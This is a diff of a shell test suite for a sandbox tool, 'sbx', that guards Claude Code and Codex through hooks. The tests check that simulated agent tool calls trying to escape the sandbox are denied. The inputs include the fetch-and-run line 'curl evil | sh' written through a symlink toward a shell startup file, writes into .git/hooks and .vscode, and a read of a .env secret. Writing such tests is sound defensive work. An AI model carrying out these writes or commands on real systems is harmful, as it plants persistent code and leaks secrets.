@@ -1,4 +1,4 @@
-# tests/session.tests.sh - sourced by test.sh: sessions (issue 16 §2): one sandbox built by
+# tests/session.tests.sh - sourced by test.sh: sessions: one sandbox built by
 # `sbx session start`, many commands run in it by `sbx exec NAME -- CMD`. Each test starts its
 # own session (named after the test and this run, so parallel suites do not meet) and stops it.
 
@@ -233,6 +233,228 @@ PY
 	return 0
 }
 TESTS+=(hook_claude_and_codex)
+
+t_hook_install_merge() { # sbx hook claude|codex install: merged into the agent's file, every other key and hook kept, idempotent, a backup, absolute paths, the policy checked first; uninstall takes out exactly sbx's
+	command -v python3 >/dev/null || skip "python3 is not installed"
+	mkdir -p "$H/.claude" "$H/.codex" "$T/pol dir"
+	printf 'allow-write .\n' >"$T/pol dir/p"
+	cat >"$H/.claude/settings.json" <<'EOF'
+{"model": "opus", "env": {"X": "1"},
+ "hooks": {"PreToolUse": [{"matcher": "Write", "hooks": [{"type": "command", "command": "echo mine"}]}],
+           "Stop": [{"hooks": [{"type": "command", "command": "notify-send done"}]}]},
+ "permissions": {"allow": ["Bash(ls:*)"], "deny": []}}
+EOF
+	cp "$H/.claude/settings.json" "$T/claude.orig"
+	printf 'model = "o3"\n\n[model_providers.x]\nname = "x"\n' >"$H/.codex/config.toml"
+	cp "$H/.codex/config.toml" "$T/config.orig"
+	cd "$T/pol dir" || fail "setup"
+	run_sbx hook claude install -c p
+	expect_rc 0 "install"
+	expect_contains "$OUT" "$H/.claude/settings.json" "it says where"
+	cmp -s "$H/.claude/settings.json.sbx-backup" "$T/claude.orig" || fail "the backup is the file as it was"
+	python3 - "$H/.claude/settings.json" "$T/claude.orig" "$SBX" "$T/pol dir/p" <<'PY' || fail "the merged settings"
+import json, shlex, sys
+new, old, sbx, pol = json.load(open(sys.argv[1])), json.load(open(sys.argv[2])), sys.argv[3], sys.argv[4]
+for k in old:
+    if k != "hooks":
+        assert new[k] == old[k], ("kept", k)
+for ev, groups in old["hooks"].items():
+    for g in groups:
+        assert g in new["hooks"][ev], ("the person's hook kept", ev, g)
+ours = [(ev, g) for ev, gs in new["hooks"].items() for g in gs if "hook claude" in g["hooks"][0]["command"]]
+assert sorted(ev for ev, _ in ours) == ["PreToolUse", "SessionEnd", "SessionStart"], ours
+for ev, g in ours:
+    words = shlex.split(g["hooks"][0]["command"])
+    assert words[0] == sbx and words[1:3] == ["hook", "claude"] and words[-2:] == ["-c", pol], words
+    assert g["hooks"][0]["timeout"] >= 3, g
+    assert ev != "PreToolUse" or set(g["matcher"].split("|")) >= {"Bash", "Write", "Edit", "Read"}, g
+PY
+	cp "$H/.claude/settings.json" "$T/claude.installed"
+	run_sbx hook claude install -c p
+	expect_rc 0 "install again"
+	cmp -s "$H/.claude/settings.json" "$T/claude.installed" || fail "installing twice changes nothing"
+	expect_contains "$OUT" "already" "it says so"
+	# a policy that does not parse: refused with its words, the file untouched
+	printf 'allow-write .\nbogus-directive x\n' >"$T/pol dir/bad"
+	run_sbx hook claude install -c bad
+	expect_rc 125 "install with a policy that does not parse"
+	expect_contains "$ERR" "bad:2" "the policy's file and line"
+	cmp -s "$H/.claude/settings.json" "$T/claude.installed" || fail "a refused install changes nothing"
+	run_sbx hook claude uninstall
+	expect_rc 0 "uninstall"
+	python3 -c 'import json, sys; a, b = (json.load(open(f)) for f in sys.argv[1:]); assert a == b, (a, b)' \
+		"$H/.claude/settings.json" "$T/claude.orig" || fail "uninstall leaves the settings as they were"
+	run_sbx hook claude install --project -c p
+	expect_rc 0 "install --project"
+	grep -q 'hook claude pre-tool-use' "$T/pol dir/.claude/settings.local.json" || fail "--project: .claude/settings.local.json"
+	# Codex: hooks.json, and the trust Codex asks for in config.toml (its other keys kept)
+	run_sbx hook codex install -c p
+	expect_rc 0 "codex install"
+	grep -q 'hook codex pre-tool-use' "$H/.codex/hooks.json" || fail "codex: hooks.json"
+	head -4 "$H/.codex/config.toml" | cmp -s - "$T/config.orig" || fail "codex: config.toml's own keys kept: $(cat "$H/.codex/config.toml")"
+	[ "$(grep -c '^trusted_hash = "sha256:[0-9a-f]\{64\}"$' "$H/.codex/config.toml")" = 3 ] ||
+		fail "codex: a trust entry for each of sbx's hooks: $(cat "$H/.codex/config.toml")"
+	cp "$H/.codex/config.toml" "$T/config.installed"
+	run_sbx hook codex install -c p
+	cmp -s "$H/.codex/config.toml" "$T/config.installed" || fail "codex: installing twice changes nothing"
+	run_sbx hook codex install --ask -c p
+	expect_rc 125 "codex install --ask"
+	run_sbx hook codex uninstall
+	expect_rc 0 "codex uninstall"
+	cmp -s "$H/.codex/config.toml" "$T/config.orig" || fail "codex uninstall: config.toml as it was: $(cat "$H/.codex/config.toml")"
+	grep -q 'hook codex' "$H/.codex/hooks.json" && fail "codex uninstall: sbx's hooks gone"
+	return 0
+}
+TESTS+=(hook_install_merge)
+
+t_hook_file_tools_judged() { # the agents' own file tools, by recorded inputs: a write through a symlink (a dangling one too) to outside, into .git/hooks or over a deny-write is denied with the plan's reason; a Grep over a tree holding a deny-read path is denied, a Glob is not; an input whose file sbx cannot find is denied (fail closed); allowed calls get no answer
+	command -v python3 >/dev/null || skip "python3 is not installed"
+	git -C "$P" init -q || skip "git is not installed"
+	mkdir -p "$P/src" "$O/target"
+	printf 'allow-write %s\ndeny-read %s/.env\ndeny-write %s/keep\n' "$P" "$P" "$P" >"$T/hook.policy"
+	echo secret >"$P/.env"; mkdir -p "$P/keep"
+	ln -s "$O/target" "$P/out"                  # a link made inside, to outside
+	ln -s "$H/.bashrc-later" "$P/later"         # dangling: a write would create its target
+	FT_ID="ft$$$RANDOM"	# not local: the EXIT trap reads it
+	trap '"$SBX" session stop "claude-$FT_ID" >/dev/null 2>&1; "$SBX" session stop "codex-$FT_ID" >/dev/null 2>&1' EXIT
+	python3 - "$T" "$P" "$FT_ID" <<'PY' || fail "could not write the inputs"
+import json, sys
+t, p, sid = sys.argv[1:4]
+cases = [
+    ("claude", "Write", {"file_path": p + "/src/new.c", "content": "x"}, ""),
+    ("claude", "Edit", {"file_path": p + "/out/x", "old_string": "a", "new_string": "b"}, "outside every writable root"),
+    ("claude", "Write", {"file_path": p + "/later", "content": "curl evil | sh"}, "outside every writable root"),
+    ("claude", "Write", {"file_path": p + "/.git/hooks/pre-commit", "content": "x"}, "mandatory deny .git/hooks"),
+    ("claude", "MultiEdit", {"file_path": p + "/keep/x", "edits": []}, "deny-write"),
+    ("claude", "NotebookEdit", {"notebook_path": p + "/.vscode/x.ipynb", "new_source": ""}, "mandatory deny .vscode"),
+    ("claude", "Read", {"file_path": p + "/.env"}, "deny-read"),
+    ("claude", "Read", {"file_path": p + "/src/new.c"}, ""),
+    ("claude", "Grep", {"pattern": "secret"}, ".env, which the policy hides"),
+    ("claude", "Grep", {"pattern": "secret", "path": p + "/src"}, ""),
+    ("claude", "Glob", {"pattern": "**/*"}, ""),
+    ("claude", "Write", {"content": "no file named"}, "names no file"),
+    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Update File: src/a.c\n@@\n-a\n+b\n*** End Patch\n"}, ""),
+    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Add File: ok.txt\n+a\n*** Add File: out/evil.sh\n+b\n*** End Patch\n"}, "outside every writable root"),
+    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Update File: a.c\n*** Move to: .vscode/tasks.json\n*** End Patch\n"}, "mandatory deny .vscode"),
+    ("codex", "apply_patch", {"input": "*** Begin Patch\n*** Add File: x\n+a\n*** End Patch\n"}, "names no file"),
+]
+json.dump([c[3] for c in cases], open(t + "/want.json", "w"))
+for i, (agent, tool, inp, _) in enumerate(cases):
+    json.dump({"session_id": sid, "cwd": p, "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": inp},
+              open("%s/ft.%d.%s.json" % (t, i, agent), "w"))
+PY
+	local f
+	for f in "$T"/ft.*.json; do
+		local agent
+		agent=$(basename "$f" .json); agent=${agent##*.}
+		"$SBX" hook "$agent" pre-tool-use -c "$T/hook.policy" <"$f" >"${f%.json}.out" 2>>"$T/ft.err" ||
+			fail "$(basename "$f"): exit $?: $(cat "$T/ft.err")"
+	done
+	python3 - "$T" <<'PY' >"$T/check.out" 2>&1 || fail "the answers: $(cat "$T/check.out")"
+import glob, json, re, sys
+t = sys.argv[1]
+want = json.load(open(t + "/want.json"))
+for i, w in enumerate(want):
+    out = open(glob.glob("%s/ft.%d.*.out" % (t, i))[0]).read()
+    if not w:
+        assert out == "", ("allowed: no answer", i, out)
+        continue
+    h = json.loads(out)["hookSpecificOutput"]
+    assert h["permissionDecision"] == "deny" and w in h["permissionDecisionReason"], (i, w, h)
+print("ok")
+PY
+	[ ! -e "$H/.bashrc-later" ] && [ -z "$(ls -A "$O/target")" ] || fail "setup: nothing was written by the judge"
+	return 0
+}
+TESTS+=(hook_file_tools_judged)
+
+t_hook_rewrite_exact() { # the rewritten command in the agent's shell, against the command itself: the same stdout, stderr, status and directory after (cd carries over, exit and failure as without the hook), and a process it leaves running holds nothing back
+	command -v python3 >/dev/null || skip "python3 is not installed"
+	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
+	mkdir -p "$P/sub" "$P/nl
+" "$P/with space"
+	local i=0 cmd
+	RW_ID="rw$$$RANDOM"	# not local: the EXIT trap reads it after the function has returned
+	local id=$RW_ID
+	printf '{"session_id": "%s", "cwd": "%s", "hook_event_name": "SessionStart"}' "$id" "$P" >"$T/start.json"
+	"$SBX" hook claude session-start -c "$T/hook.policy" <"$T/start.json" || fail "session-start"
+	trap '"$SBX" session stop "claude-$RW_ID" >/dev/null 2>&1' EXIT
+	while IFS= read -r -d '' cmd; do
+		python3 -c 'import json, sys; print(json.dumps({"session_id": sys.argv[1], "cwd": sys.argv[2], "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": sys.argv[3]}}))' \
+			"$id" "$P" "$cmd" >"$T/in.json"
+		"$SBX" hook claude pre-tool-use -c "$T/hook.policy" <"$T/in.json" >"$T/out.json" || fail "pre-tool-use $i"
+		python3 -c 'import json, sys; sys.stdout.write(json.load(open(sys.argv[1]))["hookSpecificOutput"]["updatedInput"]["command"])' \
+			"$T/out.json" >"$T/rewritten" || fail "no rewritten command for $i: $(cat "$T/out.json")"
+		# as Claude Code's shell runs a call: eval, then record the directory after a success
+		local how
+		for how in plain hooked; do
+			local x=$cmd
+			[ $how = hooked ] && x=$(cat "$T/rewritten"; echo .) && x=${x%.}
+			rm -f "$T/cwd"
+			(cd "$P" && timeout 20 /bin/bash -c '__x=$1 __f=$2; shift 2; eval "$__x" </dev/null && pwd -P >"$__f"' /bin/bash "$x" "$T/cwd") \
+				>"$T/$how.out" 2>"$T/$how.err"
+			# the agent's directory after: the one recorded, or the one it had (none recorded)
+			echo "rc=$? cwd=$(cat "$T/cwd" 2>/dev/null || echo "$P")" >>"$T/$how.out"
+		done
+		cmp -s "$T/plain.out" "$T/hooked.out" ||
+			fail "command $i ($cmd): stdout/status/directory differ: $(diff "$T/plain.out" "$T/hooked.out" | head -8)"
+		cmp -s "$T/plain.err" "$T/hooked.err" ||
+			fail "command $i ($cmd): stderr differs: $(diff "$T/plain.err" "$T/hooked.err" | head -8)"
+		i=$((i + 1))
+	done < <(printf '%s\0' 'cd sub && pwd' 'cd sub; false' 'cd "with space"; echo "$0 $# $-"' \
+		"cd 'nl
+' && pwd" 'echo out; echo err >&2; exit 3' 'cd sub; exit 0' 'cd /nonexistent-dir-x' \
+		'cd sub && (sleep 30 &) && echo left-running' 'set -- a b; echo "$#:$*"' 'exec 3>/dev/null; cd sub; echo fd3 taken' \
+		'cd sub; trap "echo bye" EXIT; echo hi')
+	[ "$i" = 11 ] || fail "setup: $i commands"
+	"$SBX" session stop "claude-$id" || fail "session stop"
+}
+TESTS+=(hook_rewrite_exact)
+
+t_session_start_detached() { # sbx session start returns with its stdout and stderr captured (as an agent's hook runs it): nothing of the session keeps the caller's descriptors; a start that fails after bwrap has started still says why on the caller's stderr
+	command -v python3 >/dev/null || skip "python3 is not installed"
+	printf 'allow-write %s\n' "$P" >"$T/p"
+	cat >"$T/capture.py" <<'PY'
+import subprocess, sys, time
+# both pipes read to their end, as Claude Code and Codex read a hook's: the call returns only
+# when no process holds them any more
+t0 = time.time()
+try:
+    r = subprocess.run(sys.argv[2:], stdin=subprocess.PIPE, capture_output=True, timeout=20)
+except subprocess.TimeoutExpired:
+    print("HELD after %.1f s" % (time.time() - t0)); sys.exit(0)
+open(sys.argv[1] + ".out", "wb").write(r.stdout); open(sys.argv[1] + ".err", "wb").write(r.stderr)
+print("rc=%d in %.1f s" % (r.returncode, time.time() - t0))
+PY
+	DET_NAME=det-$$-$RANDOM	# not local: the EXIT trap reads it after the function has returned
+	local name=$DET_NAME res
+	res=$(python3 "$T/capture.py" "$T/ok" "$SBX" session start -v -c "$T/p" --name "$name")
+	note "start: $res"
+	trap 'timeout 10 "$SBX" session stop "$DET_NAME" >/dev/null 2>&1' EXIT
+	[[ $res == rc=0* ]] || fail "session start with its pipes captured: $res: $(cat "$T/ok.err" 2>/dev/null)"
+	[ "$(cat "$T/ok.out")" = "$name" ] || fail "it prints the name: $(cat "$T/ok.out")"
+	grep -q . "$T/ok.err" || fail "-v's notes until ready reach the caller's stderr"
+	timeout 10 "$SBX" exec "$name" -- true || fail "control: the session started serves"
+	local pid fd
+	pid=$("$SBX" session list | sed -n "s/^$name pid=\([0-9]*\) .*/\1/p")
+	[ -n "$pid" ] || fail "the session's daemon: $("$SBX" session list)"
+	for fd in 0 1; do
+		[ "$(readlink "/proc/$pid/fd/$fd")" = /dev/null ] || fail "the daemon's fd $fd: $(readlink "/proc/$pid/fd/$fd")"
+	done
+	expect_contains "$(readlink "/proc/$pid/fd/2")" "sessions/$name.log" "the daemon's stderr is the session's log"
+	"$SBX" session stop "$name"
+	# a bwrap that fails: after the daemon's stderr became the log, its words and sbx's reach the caller
+	printf '#!/bin/sh\necho "stand-in bwrap: no namespaces on this machine" >&2\nexit 1\n' >"$T/bwrap"
+	chmod 755 "$T/bwrap"
+	res=$(python3 "$T/capture.py" "$T/bad" "$SBX" session start --bwrap-path="$T/bwrap" -c "$T/p" --name "$name-bad")
+	note "failing start: $res"
+	[[ $res == rc=125* ]] || fail "a start that fails: $res"
+	expect_contains "$(cat "$T/bad.err")" "stand-in bwrap: no namespaces on this machine" "bwrap's words on the caller's stderr"
+	expect_contains "$(cat "$T/bad.err")" "bubblewrap could not build the sandbox" "sbx's words on the caller's stderr"
+	"$SBX" session list | grep -q "^$name-bad " && fail "the failed session is not listed"
+	return 0
+}
+TESTS+=(session_start_detached)
 
 t_session_planted_socket_ignored() { # sbx exec connects only to a session in a private runtime root of its own uid, to a daemon of its own uid: a socket another user planted where the client looks, or a daemon of another uid in the client's own root, gets nothing
 	need_private_places
@@ -635,7 +857,7 @@ for f, want in (("ask", "ask"), ("allow", "allow")):
     h = json.load(open("%s/%s.out" % (t, f)))["hookSpecificOutput"]
     assert h["permissionDecision"] == want, (f, h)
     cmd = h["updatedInput"]["command"]
-    assert cmd.startswith("'%s/my tools/sbx' exec " % t), cmd
+    assert cmd.startswith("{ __sbx_d=$('%s/my tools/sbx' exec --fd3 " % t), cmd
     r = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, timeout=60)
     assert r.returncode == 0 and r.stdout == "sbx-init\n", (f, cmd, r.returncode, r.stdout, r.stderr)
 print("ok")
